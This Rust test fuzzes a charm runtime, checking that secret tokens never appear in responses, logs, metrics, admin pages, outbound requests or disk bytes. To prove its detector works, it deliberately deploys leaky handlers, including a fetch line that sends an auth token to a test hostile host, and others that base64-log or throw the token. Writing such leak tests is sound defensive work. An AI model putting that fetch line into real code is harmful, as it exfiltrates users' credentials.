//! Non-interference: whatever a charm does that does not give its secrets away on purpose, and whatever strangers send,
//! no secret leaves.
//!
//! Charms are generated, with a random token in every secret. Strangers send them what they like. After each step, all
//! that leaves is searched for the tokens in many forms: answers to strangers and to integrations, pages, logs, traces,
//! metrics, errors, requests on the wire, and the bytes on the disk. `SECRECY_SEED` repeats a run, and `SECRECY_STEPS`
//! says how long it is.
#![allow(
    clippy::unwrap_used,
    clippy::print_stdout,
    reason = "a test's helper may panic as its test does, and reports its seed and figures"
)]
#![allow(clippy::too_many_lines, clippy::format_collect, reason = "a generator reads as a table of what it makes")]

#[path = "../common/mod.rs"]
mod common;
mod needles;
mod program;
mod scene;
mod stranger;

use std::collections::BTreeMap;
use std::time::Instant;

use bg_charm_api::Spaces as _;
use bg_charm_runtime::Handlers;
use bg_poller::{CharmRef, CharmRuntime as _, RuntimeError};
use bg_test_support::Random;
use serde_json::{Map, Value, json};

use crate::needles::{Needles, token};
use crate::scene::{Scene, Sink, handlers, hostile, logged, request};

/// How many steps there are, unless `SECRECY_STEPS` says otherwise.
const STEPS: usize = 500;

/// How many steps a charm gets.
const STEPS_OF_A_CHARM: usize = 40;

/// What looks like a link.
pub(crate) fn link(cell: &str, path: &[&str]) -> Value {
    json!({"/": {"link@1": {"id": format!("of:{cell}"), "path": path}}})
}

/// What all charms have in common.
struct World {
    handlers: Handlers,
    host: String,
    logs: Sink,
    wire: Sink,
}

/// A charm with its secrets.
struct Trial<'w> {
    world: &'w World,
    scene: Scene,
    charm: CharmRef,
    secrets: Vec<String>,
    needles: Needles,
    /// What was done, for people.
    story: Vec<String>,
    /// How many steps of each kind had which result.
    figures: &'w mut BTreeMap<String, usize>,
}

fn seed() -> u64 {
    std::env::var("SECRECY_SEED").map_or(u64::from(std::process::id()), |seed| seed.parse().expect("a number"))
}

/// The only test of this process, because the log belongs to the whole process.
#[tokio::test(flavor = "multi_thread")]
async fn no_secret_leaves_whatever_charms_compute_and_strangers_send() {
    let (server, wire) = hostile();
    let host = format!("http://{}", server.address());
    let world = World { handlers: handlers(&host).await, logs: logged(), wire, host };
    each_kind_of_leak_is_found(&world).await;

    let steps = std::env::var("SECRECY_STEPS").map_or(STEPS, |steps| steps.parse().expect("a number"));
    let (seed, began) = (seed(), Instant::now());
    println!("SECRECY_SEED={seed}");
    let (mut done, mut charms, mut refused, mut figures) = (0, 0, 0, BTreeMap::new());
    for number in 0.. {
        if done >= steps {
            break;
        }
        let mut random = Random::new(seed.wrapping_mul(0x1_0000).wrapping_add(number));
        let source = program::source(&mut random, &world.host);
        let Some(mut trial) = Trial::deploy(&world, &mut random, &source, &mut figures).await else {
            refused += 1;
            continue;
        };
        charms += 1;
        for _ in 0..STEPS_OF_A_CHARM {
            if let Err(leak) = trial.step(&mut random).await {
                let story = trial.story.join("\n");
                panic!("SECRECY_SEED={seed}, charm {number}: a secret left: {leak}\n\n{source}\n{story}");
            }
            done += 1;
        }
    }
    println!("{done} steps over {charms} charms ({refused} refused), in {:?}", began.elapsed());
    for (what, count) in &figures {
        println!("{count:>8} {what}");
    }
    assert!(charms > refused, "most generated charms are good ones: {charms}, and {refused} were refused");
}

impl<'w> Trial<'w> {
    /// Deploys a charm with a token in every secret; `None` if it is refused.
    async fn deploy(
        world: &'w World,
        random: &mut Random,
        source: &str,
        figures: &'w mut BTreeMap<String, usize>,
    ) -> Option<Self> {
        let scene = Scene::start(&world.handlers, random.below(1_000_000)).await;
        let secrets: Vec<String> = (0..5).map(|_| token(random)).collect();
        let inputs: Map<String, Value> = serde_json::from_value(json!({
            "auth": {"token": secrets[0], "refreshToken": secrets[1], "user": "ann", "list": [1, link("auth", &["token"])]},
            "vault": {"deep": {"key": secrets[2], "/": secrets[3]}},
            "keys": [{"k": secrets[4], "n": 1}, {"n": 2}],
            "items": [link("auth", &["token"]), {"a": link("vault", &[])}],
        }))
        .unwrap();
        let deployed = scene.operator().deploy(&scene.space, &request(source, inputs)).await;
        let charm = match deployed {
            Ok(deployed) => deployed.charm,
            Err(RuntimeError::Unfit(why) | RuntimeError::Invalid(why)) => {
                let first = why.lines().next().unwrap_or_default();
                *figures.entry(format!("charms refused: {}", &first[..first.len().min(110)])).or_default() += 1;
                assert_eq!(Needles::of(&secrets).find(why.as_bytes()), None, "{source}");
                return None;
            }
            Err(error) => panic!("{error}\n{source}"),
        };
        let integration = "secrecy".parse().unwrap();
        scene.operator().register(&charm, &integration).await.unwrap();
        let needles = Needles::of(&secrets);
        Some(Self { world, scene, charm, secrets, needles, story: Vec::new(), figures })
    }

    /// Does something, and searches all that leaves. The error is a leak.
    async fn step(&mut self, random: &mut Random) -> Result<(), String> {
        let (what, came) = match random.below(10) {
            0..=5 => self.strangers(random),
            6 | 7 => self.polled(random).await,
            8 => self.owners(random),
            _ => (String::from("nothing"), Vec::new()),
        };
        let kind = what.split(' ').take(3).collect::<Vec<_>>().join(" ");
        *self.figures.entry(kind).or_default() += 1;
        self.story.push(what);
        self.search("the answer", &came)?;
        self.look(random).await
    }

    /// What a stranger sends.
    fn strangers(&mut self, random: &mut Random) -> (String, Vec<u8>) {
        let (method, target, body) = stranger::request(random, &self.charm);
        let (status, answer) = self.scene.send(&self.scene.stranger, &method, &target, &body);
        (format!("stranger {status} {method} {target} {body}"), answer)
    }

    /// A poll, as the service does it.
    async fn polled(&mut self, random: &mut Random) -> (String, Vec<u8>) {
        let stream = format!("h{}", random.below(program::HANDLERS));
        let event = if random.chance(40) { json!({}) } else { stranger::data(random, 0) };
        let outcome = self.scene.operator().trigger(&self.charm, &stream, &event).await;
        let outcome = format!("{outcome:?}");
        let kind = if outcome.contains("Success") { "success" } else { "failure" };
        (format!("poll {kind} {stream} {event}: {outcome}"), outcome.into_bytes())
    }

    /// The owner changes a secret, as a sign-in does.
    fn owners(&mut self, random: &mut Random) -> (String, Vec<u8>) {
        let secret = token(random);
        self.secrets.push(secret.clone());
        self.needles = Needles::of(&self.secrets);
        let paths = [&["auth", "token"][..], &["auth", "refreshToken"], &["vault", "deep", "key"], &["keys", "0", "k"]];
        let path = *random.pick(&paths);
        let target = format!("/api/v1/charms/{}/value", self.charm);
        let body = json!({"path": path, "value": secret});
        let (status, answer) = self.scene.send(&self.scene.owner, "PUT", &target, &body);
        (format!("owner {status} sets {}", path.join(".")), answer)
    }

    /// Everything that leaves, and the content of the disk.
    async fn look(&mut self, random: &mut Random) -> Result<(), String> {
        let at = format!("/api/v1/charms/{}", self.charm);
        for target in [format!("{at}/show"), format!("{at}/logs?limit=1000"), format!("{at}/runs?limit=100")] {
            let (_, answer) = self.scene.send(&self.scene.stranger, "GET", &target, &Value::Null);
            self.search(&target, &answer)?;
        }
        let opened = self.scene.operator().open(&self.charm).await.unwrap();
        for key in opened.keys().await.unwrap() {
            let found = opened.get(std::slice::from_ref(&key)).await;
            self.search(&format!("what an integration reads of {key}"), format!("{found:?}").as_bytes())?;
        }
        for _ in 0..3 {
            let path = stranger::path(random);
            let found = opened.get(&path).await;
            self.search(&format!("what an integration reads of {path:?}"), format!("{found:?}").as_bytes())?;
        }
        if random.chance(15) {
            let (_, page) = self.scene.send(&self.scene.stranger, "GET", &format!("{at}/page"), &Value::Null);
            self.search("the charm's page", &page)?;
        }
        if random.chance(15) {
            let pages = [
                "/admin".to_owned(),
                format!("/admin/charms/{}", self.charm),
                "/metrics".to_owned(),
                "/admin/handlers".to_owned(),
            ];
            for target in pages {
                let (status, page) = self.scene.operators(&target);
                assert_eq!(status, 200, "{target}");
                self.search(&target, &page)?;
            }
        }
        self.search("a log line or a trace", &self.world.logs.take())?;
        self.search("a request on the wire", &self.world.wire.take())?;
        let disk = self.scene.disk();
        self.search("the disk", &disk)
    }

    fn search(&self, place: &str, bytes: &[u8]) -> Result<(), String> {
        self.needles.find(bytes).map_or(Ok(()), |found| Err(format!("{place}: {found}")))
    }
}

/// Charms that give their secrets away, and hosts that would: each leak is found, wherever it is.
async fn each_kind_of_leak_is_found(world: &World) {
    let schema = program::SCHEMA;
    let leaks = [
        ("what a handler copies", "note.set(auth.get().token);", "/show: "),
        ("what it copies in another form", "note.set(auth.get().token.split(''));", "/show: "),
        ("a log line", "console.log(btoa(auth.get().token));", "/logs"),
        ("an error", "throw new Error(encodeURIComponent([...auth.get().token].reverse().join('')));", "the answer: "),
        ("a request", "await fetch(HOST + '/data?' + auth.get().token);", "a request on the wire: "),
    ];
    for (what, statement, place) in leaks {
        let source = format!(
            "import {{ handler, pattern }} from 'commontools';\nconst HOST = '{}';\n\
             const h: any = handler<any, any>(async (_: any, {{ auth, note }}: any) => {{ {statement} }});\n\
             export default pattern<any>(({{ auth, vault, keys, items, box, note }}: any) => {{ const state = {{ auth, note }}; return {{ \
             auth, vault, keys, items, box, note, h0: h(state), h1: h(state), h2: h(state), h3: h(state), bgUpdater: h(state) }}; }}, {schema} as any);\n",
            world.host
        );
        let mut figures = BTreeMap::new();
        let mut random = Random::new(1);
        let mut trial = Trial::deploy(world, &mut random, &source, &mut figures).await.expect(what);
        let (_, came) = trial.polled(&mut random).await;
        let found = match trial.search("the answer", &came) {
            Ok(()) => trial.look(&mut random).await,
            found => found,
        };
        assert!(found.as_ref().is_err_and(|leak| leak.contains(place)), "{what}: {found:?}");
        world.logs.take();
        world.wire.take();
    }
    let source = program::source(&mut Random::new(3), &world.host);
    let (mut figures, mut random) = (BTreeMap::new(), Random::new(2));
    let mut trial = Trial::deploy(world, &mut random, &source, &mut figures).await.expect("a good charm");
    trial.look(&mut random).await.unwrap();
    // A page of the log in which a secret lies in the clear, though no row has it any more.
    let secret = trial.secrets[0].clone();
    let mut database = std::fs::OpenOptions::new().append(true).open(trial.scene.database()).unwrap();
    std::io::Write::write_all(&mut database, secret.as_bytes()).unwrap();
    let found = trial.look(&mut random).await;
    assert!(found.as_ref().is_err_and(|leak| leak.starts_with("the disk: ")), "{found:?}");
    tracing::info!("a line with {secret}");
    assert!(trial.search("", &world.logs.take()).is_err());
}
